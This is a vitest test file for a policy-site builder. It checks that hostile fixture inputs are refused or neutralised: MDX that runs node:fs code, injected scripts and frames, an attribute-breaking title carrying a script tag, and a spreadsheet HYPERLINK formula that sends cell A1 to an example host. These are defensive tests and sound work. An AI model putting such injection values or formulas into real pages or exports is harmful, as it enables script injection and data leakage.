// Hostile and careless inputs (test/fixtures/hostile/, each an overlay on the valid fixture), each with
// its exact outcome: what `check` says, whether the build runs, and what reaches the output.
import { existsSync } from 'node:fs';
import { readFile, readdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { buildIsolated } from '../../scripts/lib/astro-build.ts';
import { runChecks } from '../../src/model/checks/index.ts';
import { loadCorpus } from '../../src/model/load/load-corpus.ts';
import { problemsForBuild } from '../../src/model/problem.ts';
import { FIXTURE_AS_OF, materialiseFixture } from '../load-fixture.ts';

const dirs: string[] = [];
afterAll(() => Promise.all(dirs.map((d) => rm(d, { recursive: true, force: true }))));

async function hostile(name: string) {
  const root = await materialiseFixture(`hostile/${name}`);
  dirs.push(root);
  const problems = runChecks(await loadCorpus({ root }), { asOf: FIXTURE_AS_OF });
  const at = (code: string) => problems.filter((p) => p.code === code).map((p) => `${p.file}:${p.line}:${p.column}`);
  return { root, problems, at, build: () => buildIsolated(path.join(root, 'dist'), { CLAUSEBOOK_ROOT: root, CLAUSEBOOK_AS_OF: FIXTURE_AS_OF, CLAUSEBOOK_HISTORY: 'off' }) };
}

/** Every built file's text (HTML, JS, CSS, JSON, CSV) joined: what a reader's browser could get. */
async function output(dir: string): Promise<string> {
  const texts: string[] = [];
  for (const file of await readdir(dir, { recursive: true })) {
    if (/\.(html|js|css|json|csv|txt)$/.test(String(file))) texts.push(await readFile(path.join(dir, String(file)), 'utf8'));
  }
  return texts.join('\n');
}

describe('a document that imports node:fs and writes a file in an export', () => {
  test('should be refused by check at its lines, and never run in the build', async () => {
    const { root, at, problems, build } = await hostile('code-execution');
    expect(at('CB307')).toEqual(['content/policies/runs-code.mdx:14:1', 'content/policies/runs-code.mdx:16:1']);
    expect(problems.find((p) => p.code === 'CB307')!.message).toContain("import { writeFileSync } from 'node:fs'");
    const result = await build();
    expect(result.ok).toBe(false);
    expect(result.output).toContain('content/policies/runs-code.mdx:14:1  error  CB307');
    expect(existsSync(path.join(root, 'code-ran.txt'))).toBe(false);
  });
});

describe('a public page with scripts, an external image, a frame and dangerous links', () => {
  test('should warn about each, build, and publish none of them', async () => {
    const { root, at, build } = await hostile('script-and-image');
    expect(at('CB308')).toEqual([16, 18, 22].map((line) => `content/policies/hostile-page.mdx:${line}:1`).concat('content/policies/hostile-page.mdx:26:24'));
    expect(at('CB309')).toEqual(['content/policies/hostile-page.mdx:20:1', 'content/policies/hostile-page.mdx:24:1', 'content/policies/hostile-page.mdx:24:34', 'content/policies/hostile-page.mdx:24:63']);
    const result = await build();
    expect(result.ok, result.output).toBe(true);
    const text = await output(path.join(root, 'dist'));
    for (const canary of ['kxscriptq', 'kxremotescriptq', 'kximageq', 'kxframeq', 'kxjavascriptq', 'kxdataq', 'kxhttpq', 'kxonclickq']) expect(text, canary).not.toContain(canary);
    const page = await readFile(path.join(root, 'dist/policies/hostile-page/index.html'), 'utf8');
    expect(page).toContain('<kbd>Ctrl</kbd>');
    expect(page).toContain('<abbr title="合作管理办公室">CMO</abbr>');
    expect(page).toContain('href="https://example.org/kept"');
    expect(page).toMatch(/<meta http-equiv="content-security-policy" content="default-src 'self';/);
    // A title that closes an attribute and opens a script stays text: in the running header's attribute
    // (printed in the margin through CSS attr()) it is one quoted value with its quote escaped, and no page
    // has it as an element anywhere else (the page title, headings and lists escape it).
    const start = /^<!DOCTYPE html><html lang="[^"]+" data-print-header="([^"]*)"><head>/.exec(page);
    const decode = (value: string) => value.replaceAll('&quot;', '"').replaceAll('&#34;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&');
    expect(decode(start?.[1] ?? '')).toBe('POL-003 · V1.0 · 测试制度二"><script>window.kxtitleq = 1</script>');
    for (const file of await readdir(path.join(root, 'dist'), { recursive: true })) {
      if (!String(file).endsWith('.html')) continue;
      const html = (await readFile(path.join(root, 'dist', String(file)), 'utf8')).replace(/ data-print-header="[^"]*"/, '');
      expect(html, String(file)).not.toContain('<script>window.kxtitleq');
    }
  });
});

describe('impossible dates, unquoted (YAML would roll them over) and quoted', () => {
  test('should be refused by name, at the line, instead of becoming another day', async () => {
    const { problems } = await hostile('impossible-dates');
    const dates = problems.filter((p) => p.code === 'CB101').map((p) => [p.line, p.message]);
    expect(dates).toEqual([
      [9, '"effective": "2026-13-45" is not a day of the calendar; expected a real date written YYYY-MM-DD'],
      [10, '"review_by": "2027-02-30" is not a day of the calendar; expected a real date written YYYY-MM-DD'],
    ]);
  });
});

describe('a supersedes cycle through the second entry of a list', () => {
  test('should be found, at the entry that continues the cycle', async () => {
    const { problems } = await hostile('supersedes-second-entry');
    expect(problems.filter((p) => p.code === 'CB205').map((p) => [`${p.file}:${p.line}:${p.column}`, p.message])).toEqual([
      ['content/policies/loop-a.mdx:13:23', 'supersedes cycle: POL-002 → POL-003 → POL-002'],
    ]);
  });
});

describe('an evidence summary that names a confidential document by its title', () => {
  test('should warn in check, be an error for the builds that would print it, and stop such a build', async () => {
    const { problems, build } = await hostile('evidence-summary-title');
    const [mention, ...more] = problems.filter((p) => p.code === 'CB306');
    expect(more).toEqual([]);
    expect(mention).toMatchObject({ file: 'content/evidence/register.yaml', line: 12, severity: 'warning', builds: ['public', 'internal'] });
    expect(mention!.message).toContain('"机密伙伴名单管理办法"');
    expect(problemsForBuild(problems, 'internal').find((p) => p.code === 'CB306')?.severity).toBe('error');
    expect(problemsForBuild(problems, 'restricted').find((p) => p.code === 'CB306')).toBeUndefined();
    const result = await build();
    expect(result.ok).toBe(false);
    expect(result.output).toContain('content/evidence/register.yaml:12:14  error  CB306');
    expect(result.output).not.toMatch(/Stack trace/);
  });
});

describe('a frontmatter with an unclosed quote, and two references to that document elsewhere', () => {
  test('should report the quote where it starts, once, and count the follow-on errors instead of listing them', async () => {
    const { problems } = await hostile('broken-frontmatter');
    const errors = problems.filter((p) => p.severity === 'error');
    expect(errors.map((p) => `${p.file}:${p.line}:${p.column} ${p.code}`)).toEqual(['content/policies/broken.mdx:4:28 CB100']);
    expect(errors[0]!.message).toBe('YAML syntax: Missing closing "quote (2 more errors in other files are caused by this)');
  });
});

describe('runaway sizes: a 100,000-character title, a 300,000-character body, a list nested 10,000 levels deep', () => {
  test('should be refused by check in moments, at the field or line, and stop the build before it parses anything', async () => {
    const root = await materialiseFixture('valid');
    dirs.push(root);
    const policy = path.join(root, 'content/policies/partner-policy.mdx');
    const text = await readFile(policy, 'utf8');
    await writeFile(path.join(root, 'content/policies/huge-title.mdx'), text.replace('id: POL-001', 'id: POL-011').replace(/^title: .*$/m, `title: ${'题'.repeat(100_000)}`));
    await writeFile(path.join(root, 'content/policies/huge-body.mdx'), `${text.replace('id: POL-001', 'id: POL-012')}\n${'很长的正文。'.repeat(50_000)}\n`);
    await writeFile(path.join(root, 'content/policies/deep.mdx'), `${text.replace('id: POL-001', 'id: POL-013')}\n${'- '.repeat(10_000)}底\n`);
    const problems = runChecks(await loadCorpus({ root }), { asOf: FIXTURE_AS_OF });
    const found = (file: string) => problems.filter((p) => p.file === `content/policies/${file}` && p.severity === 'error').map((p) => `${p.code} ${p.message}`);
    expect(found('huge-title.mdx')).toHaveLength(1);
    expect(found('huge-title.mdx')[0]).toMatch(/^CB101 "title": is 100,000 characters long; at most 100 \(shorten it; long text belongs in the body\)/);
    expect(found('huge-body.mdx')).toEqual([expect.stringMatching(/^CB311 the body is 300,\d{3} characters long; at most 100,000$/)]);
    expect(found('deep.mdx')).toEqual(['CB310 lists and quotes nest 10000 levels deep here; at most 16']);
    const result = await buildIsolated(path.join(root, 'dist'), { CLAUSEBOOK_ROOT: root, CLAUSEBOOK_AS_OF: FIXTURE_AS_OF, CLAUSEBOOK_HISTORY: 'off' });
    expect(result.ok).toBe(false);
    expect(result.output).toContain('content/policies/deep.mdx:');
    expect(result.output).not.toMatch(/Maximum call stack|Stack trace/);
  });
});

describe('a spreadsheet formula in the statement of applicability', () => {
  test('should reach the CSV exports as text that no spreadsheet runs', async () => {
    const { root, build } = await hostile('csv-formula');
    const result = await build();
    expect(result.ok, result.output).toBe(true);
    const soa = await readFile(path.join(root, 'dist/soa.csv'), 'utf8');
    expect(soa).toContain(`"'=HYPERLINK(""https://example.com/?""&A1,""点击查看"")"`);
    expect(soa).not.toMatch(/(^|,)"?=/m);
  });
});
